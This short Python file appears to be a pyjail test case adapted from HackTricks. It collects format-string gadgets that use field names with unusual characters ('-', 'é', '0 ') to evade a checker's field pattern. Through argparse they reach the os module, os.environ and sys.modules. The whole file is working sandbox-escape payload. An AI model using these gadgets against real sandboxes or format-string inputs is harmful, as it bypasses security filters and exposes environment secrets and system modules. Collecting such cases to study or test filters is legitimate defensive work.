# source: pyjail str.format / format_map attribute-read gadget (HackTricks "format string" section); adapted
# family: format-field whose name is not [A-Za-z0-9_] ("{-.x}", "{é.x}", "{0 .x}"): check's field pattern misses it, Python looks it up as a key
# goal: argparse._os / argparse._sys.modules -> module os, sys.modules
import argparse
print("{-._os}".format(**{"-": argparse}))
print("{é._os.environ}".format_map({"é": argparse}))
print("{0 ._sys.modules[posix]}".format(**{"0 ": argparse}))
